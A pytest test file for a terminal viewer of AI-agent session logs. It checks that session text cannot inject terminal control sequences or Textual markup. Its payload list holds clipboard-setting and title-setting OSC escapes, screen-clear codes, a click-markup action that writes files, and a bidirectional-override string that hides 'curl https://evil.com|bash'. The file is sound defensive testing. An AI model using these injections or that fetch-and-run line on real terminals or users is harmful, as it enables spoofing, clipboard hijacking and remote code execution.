"""Session text is hostile (issue 17): nothing in a session reaches the terminal as a
control sequence, and nothing in it is read as Textual markup.

One session (and a sessions root around it) carries a tagged payload in every string
field: OSC 52 (sets the clipboard), OSC 0 (sets the window title), ``ESC [ 2 J`` and the
one-byte C1 CSI ``\\x9b`` (clear the screen), BEL, NUL, DEL, CR, a newline, and Textual
markup (``[bold]``, a lone ``[/]``, a clickable ``[@click=app.screenshot(...)]`` that
would write a file into the sessions folder, and ``[link=...]``). The real app is driven
over every screen and every toggle with Pilot, and what Textual writes to the terminal
is captured (a headless driver that writes: Textual's ``_display`` only writes when the
driver is not headless) and scanned: after Textual's own well-formed sequences are taken
out, not one control character may remain. No text from the session may go through a
markup parser, nothing may crash, and the sessions folder must be byte-identical
afterwards. Every command-line output is scanned the same way.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest

from helpers import header, ts, user, write

TAG = "HOSTILE"
# Each payload as the issue lists it; {dir} is the sessions folder (a screenshot written
# there would be a file the test finds).
PAYLOADS = (
    "[/]",
    "\x1b]52;c;SGFja2Vk\x07",
    "\x1b]0;title\x07",
    "\x1b[2J",
    "\x9b2J",
    "\x07",
    "\x00",
    "\x7f",
    "\r",
    "\n",
    "[bold]",
    "[@click=app.screenshot('x.jsonl','{dir}')]c[/]",
    "[link=http://x]l[/link]",
    # Trojan Source (issue 33, hole 7): an override shows this as `cat notes.md # curl
    # https://evil.com|bash.sh`; and isolates
    "cat notes.md \u202ehs.hsab|moc.live//:sptth lruc #\u202c",
    "\u202a\u202b\u202d\u2066\u2067\u2068\u2069",
    # widths terminals disagree on (hole 9): VS16, a joined sequence, a flag, Hangul fillers
    "\u2764\ufe0f \U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f1fa\U0001f1f8 \u115f\u1160\u3164\uffa0",
)
# drawn at a width that depends on the terminal: never written as they are (core/text.py)
_UNEVEN = "\u200d\ufe0f\U0001f1e6-\U0001f1ff\u115f\u1160\u3164\uffa0"
# What no terminal may ever receive from session text (checked before anything is removed).
RAW_SEQUENCES = ("\x1b]52;c;SGFja2Vk", "\x1b]0;title", "\x1b[2J", "\x9b")


def payload(tag: str, folder: Path) -> str:
    return f"{TAG}<{tag}>" + "".join(PAYLOADS).replace("{dir}", str(folder))


def name_payload(tag: str) -> str:
    """The payload as far as a file or folder name can hold it (no ``/``, no NUL)."""
    return f"{TAG}<{tag}>" + "".join(p for p in PAYLOADS if "/" not in p and "\x00" not in p)


def hostile_entries(folder: Path, transcript: Path) -> tuple[dict, list]:
    """A header and entries with the payload in every string field (ids too)."""

    def H(tag: str) -> str:
        return payload(tag, folder)

    head = header(H("session id"), H("cwd"), parent_session=H("parentSession"))
    entries: list = []
    last = [None]

    def add(obj: dict) -> str:
        n = len(entries) + 1
        eid = f"{n:02d}" + H(f"id {n}")
        obj = {"type": obj.pop("type"), "id": eid, "parentId": last[0], "timestamp": ts(n), **obj}
        entries.append(obj)
        last[0] = eid
        return eid

    usage = {"input": 10, "output": 20, "cacheRead": 0, "cacheWrite": 0, "totalTokens": 30,
             "cost": {"input": 0.01, "output": 0.02, "cacheRead": 0, "cacheWrite": 0, "total": 0.03}}

    def assistant(content, **extra) -> dict:
        msg = {"role": "assistant", "content": content, "api": H("api"), "provider": H("provider"),
               "model": H("model"), "usage": usage, "stopReason": "toolUse", "timestamp": 1795168800000}
        msg.update(extra)
        return {"type": "message", "message": msg}

    def result(call_id: str, name: str, text: str, **extra) -> dict:
        msg = {"role": "toolResult", "toolCallId": call_id, "toolName": name,
               "content": [{"type": "text", "text": text}], "isError": False, "timestamp": 1795168800000}
        msg.update(extra)
        return {"type": "message", "message": msg}

    add({"type": "session_info", "name": H("name")})
    add({"type": "model_change", "provider": H("provider"), "modelId": H("modelId")})
    add({"type": "thinking_level_change", "thinkingLevel": H("thinkingLevel")})
    first_user = add({"type": "message", "message": {"role": "user", "timestamp": 1795168800000, "content": [
        {"type": "text", "text": H("user text")},
        {"type": "image", "mimeType": H("mimeType"), "data": "aGVsbG8="}]}})
    add({"type": "label", "targetId": first_user, "label": H("label")})
    add(assistant([
        {"type": "thinking", "thinking": H("thinking"), "thinkingSignature": H("signature")},
        {"type": "text", "text": H("assistant text")},
        {"type": "toolCall", "id": "c-bash", "name": "bash", "arguments": {"command": H("bash command"),
                                                                          "timeout": H("timeout")}},
        {"type": "toolCall", "id": "c-read", "name": "read", "arguments": {"path": H("read path"), "offset": 1,
                                                                          "limit": 5}},
        {"type": "toolCall", "id": "c-edit", "name": "edit", "arguments": {"path": H("edit path"),
                                                                          "oldText": H("oldText"),
                                                                          "newText": H("newText")}},
        {"type": "toolCall", "id": "c-write", "name": "write", "arguments": {"path": H("write path"),
                                                                            "content": H("write content")}},
        {"type": "toolCall", "id": "c-grep", "name": "grep", "arguments": {"pattern": H("pattern"),
                                                                          "path": H("grep path")}},
        {"type": "toolCall", "id": "c-odd", "name": H("tool name"), "arguments": {H("arg key"): H("arg value")}},
        {"type": "toolCall", "id": "c-sub", "name": "subagent", "arguments": {"agent": H("agent"),
                                                                             "task": H("task")}},
        {"type": H("block type"), "text": H("odd block")},
    ]))
    add(result("c-bash", "bash", H("bash output"),
               details={"truncation": {"truncated": True, "outputLines": 1, "totalLines": 9},
                        "fullOutputPath": H("fullOutputPath")}))
    add(result("c-read", "read", H("read output")))
    add(result("c-edit", "edit", H("edit output"), details={"diff": "-" + H("diff old") + "\n+" + H("diff new")}))
    add(result("c-write", "write", H("write output"), isError=True))
    add(result("c-grep", "grep", H("grep output")))
    add(result("c-odd", H("toolName"), H("odd output")))
    add(result("c-sub", "subagent", H("subagent output"), details={"mode": H("mode"), "results": [{
        "agent": H("sub agent"), "task": H("sub task"), "exitCode": 1, "error": H("sub error"),
        "model": H("sub model"), "progress": {"status": H("sub status")},
        "artifactPaths": {"jsonlPath": str(transcript)}, "sessionFile": H("sessionFile"),
        "messages": [
            {"role": "user", "content": [{"type": "text", "text": H("sub user")}], "timestamp": 1795168800000},
            {"role": "assistant", "content": [{"type": "thinking", "thinking": H("sub thinking")},
                                              {"type": "text", "text": H("sub reply")},
                                              {"type": "toolCall", "id": "s1", "name": "bash",
                                               "arguments": {"command": H("sub command")}}],
             "provider": H("sub provider"), "model": H("sub msg model"), "usage": usage, "stopReason": "toolUse",
             "timestamp": 1795168800000},
            {"role": "toolResult", "toolCallId": "s1", "toolName": H("sub toolName"),
             "content": [{"type": "text", "text": H("sub result")}], "isError": False, "timestamp": 1795168800000},
        ]}]}))
    add({"type": "message", "message": {"role": "bashExecution", "command": H("user bash"), "output": H("user output"),
                                        "exitCode": 0, "cancelled": False, "truncated": True,
                                        "fullOutputPath": H("bash fullOutputPath"), "timestamp": 1795168800000}})
    add({"type": "custom_message", "customType": H("customType"), "content": H("custom content"), "display": True,
         "details": {H("details key"): H("details")}})
    add({"type": "custom_message", "customType": H("hidden customType"), "content": [
        {"type": "text", "text": H("hidden content")}], "display": False})
    add({"type": "custom", "customType": H("custom entry type"), "data": {H("data key"): H("data")}})
    add({"type": "message", "message": {"role": "custom", "customType": H("role custom type"),
                                        "content": H("role custom content"), "display": True,
                                        "timestamp": 1795168800000}})
    add({"type": "message", "message": {"role": "system", "content": H("system prompt"),
                                        "sections": {H("section name"): H("section body")},
                                        "toolsAdded": [{"name": H("added tool"), "description": H("tool desc")}],
                                        "toolsRemoved": [H("removed tool")], "timestamp": 1795168800000}})
    add({"type": "message", "message": {"role": "branchSummary", "summary": H("role branch summary"),
                                        "fromId": H("role fromId"), "timestamp": 1795168800000}})
    add({"type": "message", "message": {"role": "compactionSummary", "summary": H("role compaction summary"),
                                        "tokensBefore": 1000, "timestamp": 1795168800000}})
    add({"type": "message", "message": {"role": H("unknown role"), "content": H("unknown role content"),
                                        "timestamp": 1795168800000}})
    add({"type": H("unknown type"), "data": H("unknown type data")})
    add({"type": "branch_summary", "fromId": H("fromId"), "summary": H("branch summary"),
         "details": {"readFiles": [H("readFile")], "modifiedFiles": [H("modifiedFile")]}})
    kept = add(assistant([{"type": "text", "text": H("before compaction")}], stopReason="stop"))
    add({"type": "compaction", "summary": H("compaction summary"), "firstKeptEntryId": kept, "tokensBefore": 12345,
         "details": {"readFiles": [H("compaction readFile")], "modifiedFiles": [H("compaction modifiedFile")]}})
    add({"type": "context_edit", "targetId": kept, "replacement": {"content": H("replacement")}})
    add({"type": "usage", "kind": H("usage kind"), "provider": H("usage provider"), "model": H("usage model"),
         "usage": usage})
    add(assistant([], stopReason="error", errorMessage=H("errorMessage"), responseModel=H("responseModel"),
                  thinkingLevel=H("message thinkingLevel")))
    add({"type": "message", "message": {"role": "user", "content": H("last user"), "timestamp": 1795168800000}})
    add(assistant([{"type": "text", "text": H("last reply")}], stopReason="stop"))
    return head, entries


class HostileRoot:
    """A sessions root whose folder names, file names and sessions all carry the payload."""

    def __init__(self, base: Path):
        # The root's own path holds "[/]" (a crash at start) and controls.
        self.root = base / "root[" / ("]" + name_payload("root"))
        project = self.root / ("--" + name_payload("project") + "--")
        self.transcript = project / "subagent-artifacts" / (name_payload("transcript") + ".jsonl")
        head, entries = hostile_entries(self.root, self.transcript)
        self.session = write(project / f"2026-11-20T10-00-00-000Z_{name_payload('file')}.jsonl",
                             [*entries, "not json " + payload("damaged line", self.root)], header=head)
        # a transcript (opened from the subagent's "transcript:" line)
        write(self.transcript, entries[3:6], header={**head, "id": payload("transcript id", self.root)})
        # a second session, forked from the first, with no name: its first message is its title
        fork_header = {**head, "id": payload("fork id", self.root), "parentSession": str(self.session)}
        self.fork = write(project / f"2026-11-19T10-00-00-000Z_{name_payload('fork')}.jsonl",
                          [user("f1", None, 1, payload("fork first message", self.root))], header=fork_header)
        # a file that is not a session: its reason quotes the first line's type
        self.bad = write(self.root / (name_payload("bad") + ".jsonl"), [{"type": payload("bad type", self.root)}],
                         header=None)
        os.utime(self.fork, (1_700_000_000, 1_700_000_000))
        os.utime(self.bad, (1_600_000_000, 1_600_000_000))
        self.entries = entries

    def state(self) -> dict:
        """Every path under the root with its bytes (the folder must be left as it was)."""
        out = {}
        for p in sorted(self.root.parent.rglob("*")):
            out[str(p)] = p.read_bytes() if p.is_file() else None
        return out


@pytest.fixture
def hostile(tmp_path) -> HostileRoot:
    return HostileRoot(tmp_path / "store")


# ----------------------------------------------------------------------------- the terminal

# Textual's own sequences in a frame: colours (SGR), cursor moves, modes (synchronized
# output, the cursor shown or hidden). ``ESC [ 2 J`` is none of them.
_OWN_SEQUENCE = re.compile(r"\x1b\[(?:[0-9;:]*m|\d+;\d+H|\d*[ABCD]|\?\d+[hl])")
_CLIPBOARD = re.compile(r"\x1b\]52;c;[A-Za-z0-9+/=]*\x07")
_POINTER = re.compile(r"\x1b\]22;[a-z-]+\x07")
_CONTROL = re.compile(f"[\x00-\x09\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff{_UNEVEN}]")


def terminal_problems(writes: list[str]) -> list[str]:
    """What in ``writes`` (the strings Textual handed its driver) is not Textual's own:
    raw payload sequences, and any control character left once Textual's own well-formed
    sequences are removed. A write that is wholly a clipboard copy (``y``, ``i``, ``p``,
    ``Y``: the exact text, base64), a bell or a pointer shape is Textual's own."""
    problems = []
    for w in writes:
        if w == "\x07" or _CLIPBOARD.fullmatch(w) or _POINTER.fullmatch(w):
            continue
        for seq in RAW_SEQUENCES:
            if seq in w:
                k = w.index(seq)
                problems.append(f"raw {seq!r} in {w[max(0, k - 60):k + 40]!r}")
        rest = _OWN_SEQUENCE.sub("", w)
        for m in _CONTROL.finditer(rest):
            k = m.start()
            problems.append(f"control {m.group()!r} in {rest[max(0, k - 60):k + 40]!r}")
    return problems


@pytest.fixture
def terminal(monkeypatch):
    """The strings Textual writes to the terminal during the test."""
    from textual.drivers.headless_driver import HeadlessDriver

    writes: list[str] = []
    monkeypatch.setattr(HeadlessDriver, "is_headless", property(lambda self: False))
    monkeypatch.setattr(HeadlessDriver, "write", lambda self, data: writes.append(data))
    return writes


@pytest.fixture
def markup_inputs(monkeypatch):
    """Every string from the session that a markup parser (Textual's or Rich's) was given."""
    import rich.console
    import rich.markup
    import textual.markup

    seen: list[str] = []

    def spy(fn):
        def wrapped(markup, *args, **kwargs):
            if isinstance(markup, str) and TAG in markup:
                seen.append(markup)
            return fn(markup, *args, **kwargs)

        return wrapped

    monkeypatch.setattr(textual.markup, "to_content", spy(textual.markup.to_content))
    monkeypatch.setattr(rich.markup, "render", spy(rich.markup.render))
    monkeypatch.setattr(rich.console, "render_markup", spy(rich.console.render_markup))
    return seen


SIZE = (200, 70)


async def _keys(pilot, settle, *keys: str) -> None:
    for key in keys:
        await pilot.press(key)
        await settle(pilot)


async def _walk_pane(pilot, settle, rows: int) -> None:
    """Every row of the tree selected in turn, so the pane draws every block."""
    await _keys(pilot, settle, "home")
    for _ in range(rows):
        await _keys(pilot, settle, "j")


@pytest.mark.slow
async def test_every_screen_shows_hostile_text_as_stand_ins(make_app, settle, hostile, terminal, markup_inputs,
                                                          tmp_path, monkeypatch):
    import tempfile

    from pitui.ui.screens.export import ExportScreen

    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(elsewhere))  # where `e` writes (headless: no pager)
    monkeypatch.setenv("HOME", str(elsewhere))  # where `x` offers to write (the home folder here)
    monkeypatch.delenv("XDG_DOWNLOAD_DIR", raising=False)
    before = hostile.state()
    app = make_app(hostile.root)
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        await settle(pilot)
        b = app.browser
        assert b is not None and b.session is not None and b.session.path == str(hostile.session)
        assert terminal, "nothing was captured: the capture does not work"
        rows = len(b.branch_tree.tree_layout.rows)
        from pitui.core.model.layout import FILTERS

        for _ in range(len(FILTERS)):  # every filter
            await _keys(pilot, settle, "f")
            await _walk_pane(pilot, settle, len(b.branch_tree.tree_layout.rows))
        assert b.branch_tree.mode == "default"
        for toggle in ("t", "o", "h"):  # each toggle on (they stay on: all three at the end)
            await _keys(pilot, settle, toggle)
            await _walk_pane(pilot, settle, rows)
        await _keys(pilot, settle, "tab", "pagedown", "pagedown", "pagedown", "shift+tab")
        # the header, the warnings, context and stats, at the last entry
        assert b.session.all_warnings  # (the line that is not JSON)
        await _keys(pilot, settle, "end", "w")
        assert type(app.screen).__name__ == "WarningsScreen"
        await _keys(pilot, settle, "escape", "c")
        assert type(app.screen).__name__ == "ContextScreen"
        await _keys(pilot, settle, "t", "o", "pagedown", "pagedown", "escape", "s")
        assert type(app.screen).__name__ == "StatsScreen"
        await _keys(pilot, settle, "escape")
        # in-pane search
        await _keys(pilot, settle, "slash")
        await pilot.press(*TAG)
        await _keys(pilot, settle, "enter", "n", "N")
        # toasts that name the session, its path and an entry
        for key in ("y", "i", "p", "Y", "e"):
            await _keys(pilot, settle, key)
        assert app.clipboard  # copies keep the exact text
        toasts = [t.render().plain for t in app.screen.query("Toast")]
        assert any("[@click=" in t for t in toasts), toasts  # shown as text, not read as markup
        # the export dialog, refused in the sessions folder (the toast names the folder;
        # the path typed reaches it through a link, as a user could type it) ...
        (elsewhere / "link").symlink_to(hostile.root)
        await _keys(pilot, settle, "x")
        assert isinstance(app.screen, ExportScreen)
        app.screen.query_one("#export-path").value = str(elsewhere / "link" / "out.md")
        await _keys(pilot, settle, "enter")
        # ... and written elsewhere
        await _keys(pilot, settle, "x", "enter")
        assert list(elsewhere.glob("*.md"))
        # search every session
        await _keys(pilot, settle, "ctrl+f")
        assert type(app.screen).__name__ == "SearchScreen"
        await pilot.press(*TAG)
        await pilot.pause(0.4)
        await settle(pilot)
        assert len(app.screen.results.rows) > 10
        await _keys(pilot, settle, "down", "down", "escape")
        await _keys(pilot, settle, "question_mark", "escape")
        # the sidebar, every session in it, the fork, the file that is not a session
        await _keys(pilot, settle, "shift+tab")
        assert len(b.session_list.items) >= 5  # projects, sessions, the transcript, the bad file
        for _ in range(len(b.session_list.items)):
            await _keys(pilot, settle, "down")
        for path in (hostile.fork, hostile.bad, hostile.transcript, hostile.session):
            b.open_session(str(path))
            await settle(pilot)
            assert (b.error is not None) == (path == hostile.bad)
        await _keys(pilot, settle, "backspace")
    problems = terminal_problems(terminal)
    assert not problems, f"{len(problems)} problems, the first: " + "\n".join(problems[:20])
    assert not markup_inputs, f"session text went through a markup parser: {markup_inputs[:3]!r}"
    assert hostile.state() == before


async def test_an_empty_store_with_a_hostile_path(make_app, settle, tmp_path, terminal, markup_inputs):
    root = tmp_path / "store[" / ("]" + name_payload("empty root"))
    root.mkdir(parents=True)
    app = make_app(root)
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        await settle(pilot)
        assert type(app.screen).__name__ == "EmptyScreen"
    assert not terminal_problems(terminal)
    assert not markup_inputs


async def test_a_session_id_of_markup_is_shown_as_text_and_its_toast_runs_nothing(make_app, settle, tmp_path):
    """An id that is Textual markup for a clickable action: ``i`` shows it as it is, and a
    click on the toast where its link would be writes no file into the sessions folder."""
    root = tmp_path / "sessions"
    sid = f"[@click=app.screenshot('x.svg','{root}')]click here to see[/]"
    write(root / "--p--" / "s.jsonl", [user("u1", None, 1, "hi")], header=header(sid, "/p"))
    before = sorted(root.rglob("*"))
    app = make_app(root)
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        await settle(pilot)
        await pilot.press("i")
        await settle(pilot)
        assert app.clipboard == sid
        toast = app.screen.query_one("Toast")
        assert toast.render().plain == f"Copied the session id: {sid}"
        # where the link's text would be if the id were read as markup
        x = toast.region.x + len("Copied the session id: ") + 3
        await pilot.click(offset=(x, toast.region.y + 1))
        await settle(pilot)
    assert sorted(root.rglob("*")) == before


def test_the_scan_finds_what_it_must(hostile):
    """The scan is real: a frame with a raw payload, a C1 CSI or a stray BEL fails it;
    Textual's own frame and clipboard sequences pass."""
    assert not terminal_problems(["\x1b[?2026h", "\x1b[1;1H\x1b[38;2;1;2;3mabc\x1b[0m", "\x1b]52;c;SGVsbG8=\x07",
                                  "\x07"])
    assert terminal_problems(["\x1b[1;1Habc\x1b]0;title\x07"])
    assert terminal_problems(["\x1b[1;1Habc\x9b2J"])
    assert terminal_problems(["\x1b[1;1Ha\x07b"])
    assert terminal_problems(["\x1b[1;1Ha\x1b[2Jb"])
    assert terminal_problems(["x\x1b]52;c;SGFja2Vk\x07"])
    assert terminal_problems(["\x1b[1;1Hcat \u202ehs.hsab\u202c"])
    assert terminal_problems(["\x1b[1;1H\U0001f468\u200d\U0001f469"])


# ----------------------------------------------------------------------------- the command line

_OUTPUT_CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")


def output_problems(data: bytes, allowed: re.Pattern | None = None) -> list[str]:
    """Control characters in command-line output (UTF-8; newlines are its own)."""
    text = data.decode("utf-8")  # (raises on bytes that are not UTF-8: a stray C1 byte)
    if allowed is not None:
        text = allowed.sub("", text)
    return [f"{m.group()!r} in {text[max(0, m.start() - 60):m.start() + 30]!r}" for m in _OUTPUT_CONTROL.finditer(text)]


def _cli(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "pitui.cli", *args], capture_output=True, timeout=120)


def _cli_tty(*args: str) -> bytes:
    """Standard output of the command when it is a terminal (``pitui search`` colours its
    matches there)."""
    import pty
    import threading
    import tty

    master, slave = pty.openpty()
    tty.setraw(slave)  # (no newline translation: the bytes as the program wrote them)
    proc = subprocess.Popen([sys.executable, "-m", "pitui.cli", *args], stdout=slave, stderr=subprocess.PIPE)
    os.close(slave)
    got = bytearray()

    def read() -> None:
        while True:
            try:
                chunk = os.read(master, 65536)
            except OSError:
                return
            if not chunk:
                return
            got.extend(chunk)

    reader = threading.Thread(target=read)
    reader.start()
    proc.wait(timeout=120)
    reader.join(timeout=10)
    os.close(master)
    assert proc.returncode == 0, proc.stderr
    return bytes(got)


def test_list_shows_one_row_per_session_and_no_control_characters(hostile):
    listed = _cli("list", str(hostile.root), "--json")
    assert listed.returncode == 0 and listed.stderr == b""
    assert not output_problems(listed.stdout)
    infos = json.loads(listed.stdout)
    # exact JSON: the payload comes back whole (C1 and DEL written as \u escapes)
    main = next(i for i in infos if i["path"] == str(hostile.session))
    assert main["name"] == payload("name", hostile.root)
    assert main["cwd"] == payload("cwd", hostile.root)
    assert main["id"] == payload("session id", hostile.root)
    assert b"\\u009b" in listed.stdout and b"\\u007f" in listed.stdout
    human = _cli("list", str(hostile.root))
    assert human.returncode == 0 and human.stderr == b""
    assert not output_problems(human.stdout)
    rows = human.stdout.decode().splitlines()
    assert len(rows) == len(infos)  # a newline in a cwd or a name fakes no row
    assert all(re.match(r"^ *(\S+) +(\d+|) +\S", row) for row in rows), rows
    assert any("^[]52;c;SGFja2Vk^G" in row for row in rows)  # the stand-ins, readable


def test_search_output_has_no_control_characters(hostile):
    for query in (TAG, "SGFja2Vk"):
        got = _cli("search", query, str(hostile.root))
        assert got.returncode == 0, got.stderr
        assert not output_problems(got.stdout), query
        assert not output_problems(got.stderr)
        assert TAG.encode() in got.stdout
        as_json = _cli("search", query, str(hostile.root), "--json")
        assert as_json.returncode == 0 and not output_problems(as_json.stdout)
        results = json.loads(as_json.stdout)
        assert str(hostile.session) in {r["path"] for r in results}
    # on a terminal, matches are coloured: those colours are the only sequences
    shown = _cli_tty("search", TAG, str(hostile.root))
    assert b"\x1b[1;33m" in shown
    assert not output_problems(shown, re.compile(r"\x1b\[(?:1;33|0)m"))


@pytest.mark.parametrize("fmt", ["json", "markdown", "html"])
def test_export_to_standard_output_has_no_control_characters(hostile, fmt):
    got = _cli("export", str(hostile.session), "--format", fmt)
    assert got.returncode == 0, got.stderr
    assert not output_problems(got.stdout)
    assert TAG.encode() in got.stdout
    if fmt == "json":
        out = json.loads(got.stdout)
        head, _ = hostile_entries(hostile.root, hostile.transcript)
        assert out["header"] == head  # exact
        assert out["name"] == payload("name", hostile.root)
    if fmt == "markdown":
        text = got.stdout.decode()
        assert text.startswith("# " + TAG + "<name>[/]^[]52;c;SGFja2Vk^G^[]0;title^G^[[2J\\x9b2J^G^@^?^M^J[bold]")
        assert text.splitlines()[2].startswith("- **Session:** `HOSTILE<session id>")


def test_error_lines_name_hostile_paths_and_reasons_with_stand_ins(hostile):
    bad = _cli("export", str(hostile.bad), "--format", "markdown")
    assert bad.returncode == 2 and bad.stdout == b""
    assert not output_problems(bad.stderr)
    assert bad.stderr.count(b"\n") == 1
    missing = _cli("list", str(hostile.root / "nowhere"))
    assert missing.returncode == 2
    assert not output_problems(missing.stderr) and missing.stderr.count(b"\n") == 1
    leaf = _cli("export", str(hostile.session), "--leaf", name_payload("no such id"))  # (no NUL in an argument)
    assert leaf.returncode == 2
    assert not output_problems(leaf.stderr) and leaf.stderr.count(b"\n") == 1


def test_search_snippets_show_stand_ins_with_the_match_where_it_is():
    from pitui.core.store.search_match import _context

    text = "\x1b]0;t\x07 before \x9b\x7f\tNEEDLE\x00 after\rend"
    start = text.index("NEEDLE")
    line, spans = _context(text, start, start + 6, [re.compile("NEEDLE")])
    assert line == "^[]0;t^G before \\x9b^? NEEDLE^@ after end"
    assert [line[s:e] for s, e in spans] == ["NEEDLE"]
